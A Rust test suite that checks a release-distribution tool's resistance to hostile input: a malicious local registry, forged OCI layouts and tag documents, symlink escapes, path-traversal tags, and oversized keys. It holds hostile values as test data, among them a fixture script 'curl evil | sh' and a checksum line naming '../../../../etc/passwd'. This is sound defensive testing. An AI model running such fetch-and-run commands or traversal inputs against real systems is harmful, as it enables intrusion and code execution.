//! Hostile input (docs/threat-model.md): each attack of the hostile-input
//! issue, performed against real parts (a hostile registry on loopback,
//! hostile OCI layouts and local destinations with symlinks, forged
//! documents), with a canary file outside every destination that no run
//! may change, and bounds on time and memory (`/usr/bin/time`, as a bound,
//! not a timing).

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use serde_json::{json, Value};

use crate::util::{built_all, publish_images};
use crate::util::{free_port, repo_root, run_bounded, tool, Fixture, Run};

/// A file outside every destination, and what it holds.
struct Canary {
    _dir: tempfile::TempDir,
    path: PathBuf,
}

const CANARY: &[u8] = b"canary: no run may change this file\n";

impl Canary {
    fn new() -> Canary {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("authorized_keys");
        std::fs::write(&path, CANARY).unwrap();
        Canary { _dir: dir, path }
    }

    fn assert_intact(&self) {
        assert_eq!(
            std::fs::read(&self.path).unwrap(),
            CANARY,
            "the canary {} was changed",
            self.path.display()
        );
    }
}

/// The hostile registry (tests/scripts/hostile_registry.py) on a free port.
struct Hostile {
    child: Child,
    port: u16,
}

impl Hostile {
    fn start(mode: &str, arg: &str) -> Hostile {
        let port = free_port();
        let child = Command::new("python3")
            .arg(repo_root().join("tests/scripts/hostile_registry.py"))
            .args([&port.to_string(), mode, arg])
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let mut hostile = Hostile { child, port };
        for _ in 0..100 {
            if std::net::TcpStream::connect(("127.0.0.1", port)).is_ok() {
                return hostile;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        let _ = hostile.child.kill();
        let _ = hostile.child.wait();
        panic!("the hostile registry did not start");
    }

    fn image(&self) -> String {
        format!("docker://127.0.0.1:{}/x:v1.0.0", self.port)
    }
}

impl Drop for Hostile {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// The tool under `/usr/bin/time`, bounded by `limit`: the run, and its
/// peak memory in MiB.
fn bounded(dir: &Path, args: &[&str], limit: Duration) -> (Run, u64) {
    let bin = tool().get_program().to_owned();
    let mut cmd = Command::new("/usr/bin/time");
    cmd.arg("-f")
        .arg("maxrss-kib=%M")
        .arg(bin)
        .arg("release-dist")
        .args(args)
        .current_dir(dir)
        .env(
            "NIX_CONFIG",
            "substituters =\nexperimental-features = nix-command flakes",
        );
    let (run, _) = run_bounded(cmd, limit);
    let kib: u64 = run
        .stderr()
        .lines()
        .rev()
        .find_map(|l| l.strip_prefix("maxrss-kib="))
        .and_then(|v| v.trim().parse().ok())
        .expect("/usr/bin/time printed no maxrss");
    (run, kib / 1024)
}

const MEMORY_BOUND_MIB: u64 = 256;

/// Runs the tool within `secs` seconds, and asserts its refusal (exit
/// code, message) and the memory bound.
fn refused_within_bounds(dir: &Path, args: &[&str], secs: u64, code: i32, needle: &str) {
    let (run, mib) = bounded(dir, args, Duration::from_secs(secs));
    refused(&run, code, &[needle]);
    assert!(mib < MEMORY_BOUND_MIB, "{args:?}: {mib} MiB");
}

/// Asserts the exit code and that stderr names each needle.
fn refused(run: &Run, code: i32, needles: &[&str]) {
    assert_eq!(
        run.code(),
        Some(code),
        "stdout:\n{}\nstderr:\n{}",
        run.stdout(),
        run.stderr()
    );
    for n in needles {
        assert!(
            run.stderr().contains(n),
            "stderr lacks {n:?}:\n{}",
            run.stderr()
        );
    }
}

#[test]
fn a_digest_that_is_a_path_writes_nothing_outside_from_a_registry_or_a_layout() {
    let canary = Canary::new();
    let f = Fixture::example("hello");
    let digest_arg = canary.path.display().to_string();

    // A registry whose attestation names `sha256:/…/authorized_keys`.
    let registry = Hostile::start("digest-path", &digest_arg);
    let (run, _) = bounded(
        &f.dir,
        &["verify", "--image", &registry.image()],
        Duration::from_secs(60),
    );
    canary.assert_intact();
    refused(&run, 5, &["is not a digest"]);

    // The same documents in an OCI layout, with the bytes the old code
    // copied out of it waiting at blobs/sha256/<the path>.
    let layout = f.dir.join("hostile-layout");
    write_digest_path_layout(&layout, &digest_arg);
    let layout_s = layout.display().to_string();
    let (run, _) = bounded(
        &f.dir,
        &["verify", "--image", &layout_s, "--release", "x:v1.0.0"],
        Duration::from_secs(60),
    );
    canary.assert_intact();
    refused(&run, 5, &["is not a digest"]);
}

/// An OCI layout holding image `x:v1.0.0` (an empty index), its referrers
/// tag, and an attestation whose layer digest is `sha256:` + `path`.
fn write_digest_path_layout(layout: &Path, path: &str) {
    let blobs = layout.join("blobs/sha256");
    std::fs::create_dir_all(&blobs).unwrap();
    let put = |v: &Value| -> (String, usize) {
        let bytes = serde_json::to_vec(v).unwrap();
        let hex = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(&bytes));
        std::fs::write(blobs.join(&hex), &bytes).unwrap();
        (format!("sha256:{hex}"), bytes.len())
    };
    let index_type = "application/vnd.oci.image.index.v1+json";
    let manifest_type = "application/vnd.oci.image.manifest.v1+json";
    let dsse = "application/vnd.dsse.envelope.v1+json";
    let (index, index_size) =
        put(&json!({"schemaVersion": 2, "mediaType": index_type, "manifests": []}));
    let (att, att_size) = put(&json!({
        "schemaVersion": 2, "mediaType": manifest_type, "artifactType": dsse,
        "config": {"mediaType": "application/vnd.oci.empty.v1+json", "digest": "sha256:44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a", "size": 2},
        "layers": [{"mediaType": dsse, "digest": format!("sha256:{path}"), "size": 4}],
        "subject": {"mediaType": index_type, "digest": index, "size": index_size},
    }));
    let (referrers, referrers_size) = put(&json!({
        "schemaVersion": 2, "mediaType": index_type,
        "manifests": [{"mediaType": manifest_type, "digest": att, "size": att_size, "artifactType": dsse}],
    }));
    // What the old code read as the blob: blobs/sha256/ + the path.
    let decoy = blobs.join(path.trim_start_matches('/'));
    std::fs::create_dir_all(decoy.parent().unwrap()).unwrap();
    std::fs::write(&decoy, b"evil").unwrap();
    let tag = |name: &str, digest: &str, size: usize| {
        json!({"mediaType": index_type, "digest": digest, "size": size,
               "annotations": {"org.opencontainers.image.ref.name": name}})
    };
    let fallback = format!("sha256-{}", &index["sha256:".len()..]);
    let doc = json!({"schemaVersion": 2, "manifests": [
        tag("v1.0.0", &index, index_size),
        tag(&fallback, &referrers, referrers_size),
    ]});
    std::fs::write(layout.join("index.json"), serde_json::to_vec(&doc).unwrap()).unwrap();
    std::fs::write(
        layout.join("oci-layout"),
        br#"{"imageLayoutVersion":"1.0.0"}"#,
    )
    .unwrap();
}

#[test]
fn a_registry_that_never_ends_or_crawls_or_lies_is_cut_off_within_bounds() {
    let f = Fixture::example("hello");
    let liar_digest = "ab".repeat(32);
    // (mode, what the tool runs, its bound in seconds, exit code, message)
    let attacks = [
        // A manifest that never ends: refused at its cap, in bounded memory.
        (
            "endless",
            "",
            "verify",
            60,
            5,
            "larger than its cap of 4 MiB",
        ),
        // A blob larger than its descriptor says: refused as it streams.
        (
            "liar",
            liar_digest.as_str(),
            "verify",
            60,
            5,
            "more than the 4 bytes its descriptor says",
        ),
        // A tag list without end: refused after its page limit.
        ("many-tags", "", "ls", 120, 5, "more than 10000 tags"),
        // One byte a second: ended by the deadline, not waited for.
        (
            "slow",
            "",
            "verify",
            100,
            4,
            "no answer within its deadline of 60 s",
        ),
    ];
    for (mode, arg, command, secs, code, needle) in attacks {
        let registry = Hostile::start(mode, arg);
        let repo = format!("docker://127.0.0.1:{}/x", registry.port);
        let image = format!("{repo}:v1.0.0");
        let args = match command {
            "ls" => ["ls", "--images", repo.as_str()],
            _ => ["verify", "--image", image.as_str()],
        };
        refused_within_bounds(&f.dir, &args, secs, code, needle);
    }
}

/// The example built for amd64, published (static, signed) to `dir`.
fn published(dir: &Path) -> (Fixture, String) {
    let f = Fixture::example("hello");
    f.run(&["build", "-q", "-t", "linux/amd64"]).ok();
    let (sk, pk) = f.release_keys();
    let pk_file = f.dir.join("keys/release.pub");
    std::fs::write(&pk_file, pk).unwrap();
    let d = dir.display().to_string();
    f.run(&[
        "-q",
        "publish",
        "static",
        "--static",
        &d,
        "--signing-key",
        &sk,
        "--tag",
        "v1.0.0",
    ])
    .ok();
    (f, pk_file.display().to_string())
}

/// [`published`] into `stage/` of a new temporary directory.
fn staged() -> (tempfile::TempDir, PathBuf, Fixture, String) {
    let tmp = tempfile::tempdir().unwrap();
    let stage = tmp.path().join("stage");
    let (f, key) = published(&stage);
    (tmp, stage, f, key)
}

#[test]
fn symlinks_in_local_destinations_are_never_followed() {
    let canary = Canary::new();
    let (tmp, stage, f, key) = staged();
    let s = stage.display().to_string();
    let release = stage.join("df-dist-v1/hello/v1.0.0");

    // A release file that is a symlink to a file outside: promote refuses
    // to read it, rm to delete through it.
    let binary = release.join("linux/amd64/hello");
    let saved = std::fs::read(&binary).unwrap();
    std::fs::remove_file(&binary).unwrap();
    std::os::unix::fs::symlink(&canary.path, &binary).unwrap();
    let prod = tmp.path().join("prod");
    let p = prod.display().to_string();
    let run = f.run(&[
        "promote",
        "hello:v1.0.0",
        "--from",
        &s,
        "--to",
        &p,
        "--key",
        &key,
    ]);
    refused(&run, 5, &["is a symlink"]);
    assert!(
        !prod.join("df-dist-v1/hello/v1.0.0").exists(),
        "nothing promoted"
    );

    // A directory of the release that is a symlink to a directory outside:
    // rm (even --force) deletes nothing through it.
    std::fs::remove_file(&binary).unwrap();
    std::fs::write(&binary, &saved).unwrap();
    let outside = canary.path.parent().unwrap().to_path_buf();
    std::fs::write(outside.join("hello"), b"outside").unwrap();
    std::fs::write(outside.join("hello.sha256"), b"outside").unwrap();
    let linux = release.join("linux/amd64");
    std::fs::rename(&linux, tmp.path().join("moved")).unwrap();
    std::os::unix::fs::symlink(&outside, &linux).unwrap();
    let run = f.run(&["rm", "hello:v1.0.0", "--static", &s, "--force"]);
    refused(&run, 5, &["is a symlink"]);
    assert_eq!(std::fs::read(outside.join("hello")).unwrap(), b"outside");
    canary.assert_intact();

    // A symlink loop: ls ends at once with the link named.
    std::fs::remove_file(&linux).unwrap();
    std::os::unix::fs::symlink(&stage, &linux).unwrap();
    let mut cmd = f.command(&["ls", "--static", &s]);
    cmd.current_dir(&f.dir);
    let (run, _) = run_bounded(cmd, Duration::from_secs(30));
    refused(&run, 5, &["is a symlink"]);
}

#[test]
fn promote_copies_exactly_what_it_verified() {
    let canary = Canary::new();
    let (tmp, stage, f, key) = staged();
    let (s, prod) = (stage.display().to_string(), tmp.path().join("prod"));
    let p = prod.display().to_string();
    let release = stage.join("df-dist-v1/hello/v1.0.0");
    let tag_doc = stage.join("df-dist-v1/hello/v1.0.0/.object");
    let tag_doc = if tag_doc.exists() {
        tag_doc
    } else {
        stage.join("df-dist-v1/hello/v1.0.0")
    };
    let original_doc = std::fs::read(&tag_doc).unwrap();

    // A file named by nothing signed, and a forged tag document listing it.
    std::fs::write(release.join("evil.sh"), b"#!/bin/sh\ncurl evil | sh\n").unwrap();
    let mut doc: Value = serde_json::from_slice(&original_doc).unwrap();
    doc["artifacts"]
        .as_array_mut()
        .unwrap()
        .push(json!({"path": "evil.sh", "kind": "installer"}));
    std::fs::write(&tag_doc, serde_json::to_vec(&doc).unwrap()).unwrap();
    let verify = f.run(&[
        "verify",
        "--from",
        &s,
        "--release",
        "hello:v1.0.0",
        "--key",
        &key,
    ]);
    refused(
        &verify,
        5,
        &["names evil.sh, which the provenance does not sign"],
    );
    let promote = |to: &str, env: &[(&str, &str)]| {
        f.run_with(
            &[
                "promote",
                "hello:v1.0.0",
                "--from",
                &s,
                "--to",
                to,
                "--key",
                &key,
            ],
            |c| {
                for (k, v) in env {
                    c.env(k, v);
                }
            },
        )
    };
    refused(&promote(&p, &[]), 5, &["names evil.sh"]);
    assert!(!prod.exists() || !prod.join("df-dist-v1/hello/v1.0.0").exists());

    // The tag document restored: evil.sh is still beside the release, and
    // is not copied.
    std::fs::write(&tag_doc, &original_doc).unwrap();
    promote(&p, &[]).ok();
    let verify_prod = || {
        f.run(&[
            "verify",
            "--from",
            &p,
            "--release",
            "hello:v1.0.0",
            "--key",
            &key,
        ])
        .ok()
    };
    let promoted = prod.join("df-dist-v1/hello/v1.0.0");
    assert!(promoted.join("linux/amd64/hello").exists());
    assert!(
        !promoted.join("evil.sh").exists(),
        "an unsigned file was promoted"
    );
    verify_prod();

    // Production's binary altered, same size: a re-run replaces it.
    let prod_bin = promoted.join("linux/amd64/hello");
    let mut bytes = std::fs::read(&prod_bin).unwrap();
    bytes[100] ^= 0xff;
    std::fs::write(&prod_bin, &bytes).unwrap();
    promote(&p, &[]).ok();
    verify_prod();

    // A source that answers with other bytes after it was verified: the
    // copy is refused, and the second production never shows the release.
    let prod2 = tmp.path().join("prod2");
    let p2 = prod2.display().to_string();
    let child = f
        .command(&[
            "promote",
            "hello:v1.0.0",
            "--from",
            &s,
            "--to",
            &p2,
            "--key",
            &key,
        ])
        .env("RELEASE_DIST_TEST_COPY_PAUSE_MS", "1500")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(700));
    let stage_bin = release.join("linux/amd64/hello");
    let mut bytes = std::fs::read(&stage_bin).unwrap();
    bytes[100] ^= 0xff;
    std::fs::write(&stage_bin, &bytes).unwrap();
    let out = Run(child.wait_with_output().unwrap());
    refused(&out, 5, &["not to the verified"]);
    assert!(
        !prod2.join("df-dist-v1/hello/v1.0.0/SHA256SUMS").exists(),
        "the release must not be visible in the second production"
    );
    canary.assert_intact();
}

#[test]
fn promoted_images_must_be_the_ones_the_provenance_signs() {
    let (f, sk) = built_all();
    let layout = f.dir.join("out/layout");
    let layout_s = layout.display().to_string();
    publish_images(&f, &sk, "v1.0.0", &["--images", &layout_s], &[]).ok();
    // The key pair built_all made (release_keys makes a new one).
    let pk_file = f.dir.join("keys/release.pub");
    std::fs::copy(f.dir.join("keys/cache.pub"), &pk_file).unwrap();
    // Point v1.0.0 at another index: the same manifests, one annotation more.
    let index_json: Value =
        serde_json::from_slice(&std::fs::read(layout.join("index.json")).unwrap()).unwrap();
    let entry = index_json["manifests"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["annotations"]["org.opencontainers.image.ref.name"] == "v1.0.0")
        .unwrap()
        .clone();
    let old_hex = &entry["digest"].as_str().unwrap()["sha256:".len()..];
    let mut index: Value =
        serde_json::from_slice(&std::fs::read(layout.join("blobs/sha256").join(old_hex)).unwrap())
            .unwrap();
    index["annotations"]["org.example.swapped"] = json!("yes");
    let bytes = serde_json::to_vec(&index).unwrap();
    let new_hex = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(&bytes));
    std::fs::write(layout.join("blobs/sha256").join(&new_hex), &bytes).unwrap();
    let text = std::fs::read_to_string(layout.join("index.json"))
        .unwrap()
        .replace(old_hex, &new_hex)
        .replace(
            &format!("\"size\":{}", entry["size"]),
            &format!("\"size\":{}", bytes.len()),
        );
    std::fs::write(layout.join("index.json"), text).unwrap();

    let static_dir = f.dir.join("out-static").display().to_string();
    let prod_layout = f.dir.join("out/prod-layout");
    let run = f.run(&[
        "promote",
        "hello:v1.0.0",
        "--from",
        &static_dir,
        "--to",
        &f.dir.join("out/prod-static").display().to_string(),
        "--key",
        pk_file.to_str().unwrap(),
        "--images-from",
        &layout_s,
        "--images-to",
        &prod_layout.display().to_string(),
    ]);
    refused(&run, 5, &["the provenance signs", "nothing was copied"]);
    assert!(
        !prod_layout.join("index.json").exists(),
        "no image reached production"
    );
    // Nor did the static release: the image is checked while the promote
    // is planned, before anything is copied.
    assert!(
        crate::util::snapshot(&f.dir.join("out/prod-static")).is_empty(),
        "the static release went to production with an image that fails"
    );
}

#[test]
fn names_tags_keys_and_durations_from_outside_are_checked() {
    let (_tmp, stage, f, _) = staged();
    let s = stage.display().to_string();
    let before = crate::util::snapshot(&stage);
    // A NAME that is a path inside the release: refused before anything.
    let run = f.run(&["rm", "hello/v1.0.0/linux:amd64", "--static", &s]);
    refused(&run, 2, &["is not a release name"]);
    // An image tag that is a path: refused on the command line and in the
    // configuration, before anything is written.
    let run = f.run(&[
        "publish",
        "--static",
        &s,
        "--image-tag",
        "../../victim/manifests/latest",
    ]);
    refused(&run, 2, &["is not a tag"]);
    // A key file that never ends, and durations past any clock.
    refused_within_bounds(
        &f.dir,
        &[
            "verify",
            "--from",
            &s,
            "--release",
            "hello:v1.0.0",
            "--key",
            "/dev/zero",
        ],
        30,
        2,
        "larger than its cap of 1 MiB",
    );
    for grace in ["999999999999999999d", "18446744073709551615s"] {
        let run = tool()
            .args(["release-dist", "gc", "--grace", grace])
            .output()
            .unwrap();
        let run = Run(run);
        refused(&run, 2, &["longer than the longest duration"]);
    }
    f.edit("Cargo.toml", |t| {
        t.replace(
            "[package.metadata.release-dist]",
            "[package.metadata.release-dist]\nimage-tags = [\"../../victim/manifests/latest\"]",
        )
    });
    let run = f.run(&["publish", "--static", &s]);
    refused(&run, 2, &["image-tags", "is not a tag"]);
    assert_eq!(before, crate::util::snapshot(&stage), "nothing changed");
}

#[test]
fn a_build_json_that_points_outside_the_store_publishes_nothing() {
    let tmp = tempfile::tempdir().unwrap();
    let f = Fixture::example("hello");
    f.run(&["build", "-q", "-t", "linux/amd64"]).ok();
    let (sk, _) = f.release_keys();
    // build.json names a file outside the store, and the link goes there.
    let secret = tmp.path().join("secret");
    std::fs::write(&secret, b"not for publishing").unwrap();
    let path = f.dist().join("build.json");
    let mut manifest: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    let a = &mut manifest["artifacts"].as_array_mut().unwrap()[0];
    let link = f.dist().join(a["path"].as_str().unwrap());
    a["storePath"] = json!(tmp.path().display().to_string());
    a["storeFile"] = json!("secret");
    a["sha256"] = json!(hex::encode(<sha2::Sha256 as sha2::Digest>::digest(
        b"not for publishing"
    )));
    a["size"] = json!(18);
    std::fs::write(&path, serde_json::to_vec(&manifest).unwrap()).unwrap();
    std::fs::remove_file(&link).unwrap();
    std::os::unix::fs::symlink(&secret, &link).unwrap();
    let out = tmp.path().join("out");
    let run = f.run(&[
        "publish",
        "static",
        "--static",
        out.to_str().unwrap(),
        "--signing-key",
        &sk,
        "--tag",
        "v1.0.0",
    ]);
    refused(&run, 2, &["is not a path in /nix/store"]);
    assert!(
        !out.exists() || crate::util::snapshot(&out).is_empty(),
        "nothing published"
    );
}

#[test]
fn cache_verify_finds_a_narinfo_whose_nar_is_gone_and_repair_lets_a_push_heal_it() {
    let f = Fixture::example("hello");
    let (sk, pk) = crate::util::key_pair(&f.dir);
    f.run(&["build", "-q", "-t", "linux/amd64"]).ok();
    let paths = crate::util::artifact_store_paths(&f);
    let dir = f.dir.join("cache");
    let url = format!("file://{}?secret-key={sk}", dir.display());
    let push = || {
        let mut args = vec!["-q", "cache", "push", "--to", url.as_str()];
        args.extend(paths.iter().map(String::as_str));
        f.run(&args).ok();
    };
    push();
    let cache = dir.display().to_string();
    f.run(&["cache", "verify", "--cache", &cache]).ok();
    // Someone deletes a NAR: the push's shortcut (the roots are there)
    // cannot see it; cache verify names it.
    let nar = std::fs::read_dir(dir.join("nar"))
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    std::fs::remove_file(&nar).unwrap();
    push();
    let run = f.run(&["cache", "verify", "--cache", &cache]);
    refused(&run, 5, &["its NAR is missing"]);
    // --repair deletes the damaged narinfos; the next push uploads them again,
    // and stock nix substitutes every path.
    f.run(&["cache", "verify", "--cache", &cache, "--repair"])
        .ok();
    push();
    f.run(&["cache", "verify", "--cache", &cache]).ok();
    for p in &paths {
        let store = tempfile::tempdir().unwrap();
        let copy =
            crate::util::nix_copy_from(&format!("file://{}", dir.display()), store.path(), p, &pk);
        assert!(
            copy.status.success(),
            "{}",
            String::from_utf8_lossy(&copy.stderr)
        );
    }
}

#[test]
fn the_smaller_items_a_release_path_a_signing_key_an_empty_cache_a_forged_record_a_huge_narinfo() {
    let (tmp, stage, f, key) = staged();
    let s = stage.display().to_string();

    // A SHA256SUMS line that leaves the release: a bad release (5), not a
    // store error.
    let sums = stage.join("df-dist-v1/hello/v1.0.0/SHA256SUMS");
    let mut text = std::fs::read_to_string(&sums).unwrap();
    text.push_str(&format!("{}  ../../../../etc/passwd\n", "ab".repeat(32)));
    std::fs::write(&sums, text).unwrap();
    let run = f.run(&["verify", "--from", &s, "--release", "hello:v1.0.0"]);
    refused(&run, 5, &["names no path inside the release"]);

    // A signing key that never ends: refused at its cap, nothing written.
    let out = tmp.path().join("out");
    refused_within_bounds(
        &f.dir,
        &[
            "publish",
            "static",
            "--static",
            out.to_str().unwrap(),
            "--signing-key",
            "/dev/zero",
            "--tag",
            "v2.0.0",
        ],
        30,
        2,
        "larger than its cap of 1 MiB",
    );
    assert!(!out.exists(), "nothing published");

    // gc with a configured cache that holds nothing yet: the releases'
    // retention runs, the cache has nothing to collect (exit 0).
    let cache = tmp.path().join("empty-cache");
    let c = cache.display().to_string();
    f.run(&["gc", "--static", &s, "--cache", &c]).ok();

    // A cache with a forged collector record (a lease to the year 9999)
    // and a narinfo of 2 MiB: a push does not wait for the record, and a
    // collection keeps the huge narinfo unread and still runs.
    let (sk, _) = crate::util::key_pair(&f.dir);
    let paths = crate::util::artifact_store_paths(&f);
    std::fs::create_dir_all(cache.join("gc")).unwrap();
    std::fs::write(
        cache.join("gc/forged.json"),
        br#"{"schema":"cargo-release-dist/cache-gc/v1","id":"forged","host":"evil","state":"deleting","started":"2026-01-01T00:00:00Z","aliveUntil":"9999-12-31T23:59:59Z"}"#,
    )
    .unwrap();
    let huge = format!("{}.narinfo", "0".repeat(32));
    std::fs::write(cache.join(&huge), vec![b'#'; 2 << 20]).unwrap();
    let url = format!("file://{}?secret-key={sk}", cache.display());
    let mut args = vec!["cache", "push", "--to", url.as_str(), "--pin", "keep"];
    args.extend(paths.iter().map(String::as_str));
    let (run, _) = bounded(&f.dir, &args, Duration::from_secs(60));
    assert_eq!(run.code(), Some(0), "{}", run.stderr());
    let (run, mib) = bounded(
        &f.dir,
        &["cache", "gc", "--cache", &c, "--grace", "0"],
        Duration::from_secs(60),
    );
    assert_eq!(run.code(), Some(0), "{}", run.stderr());
    assert!(mib < MEMORY_BOUND_MIB, "{mib} MiB");
    assert!(cache.join(&huge).exists(), "an unread narinfo is kept");
    let _ = key;
}
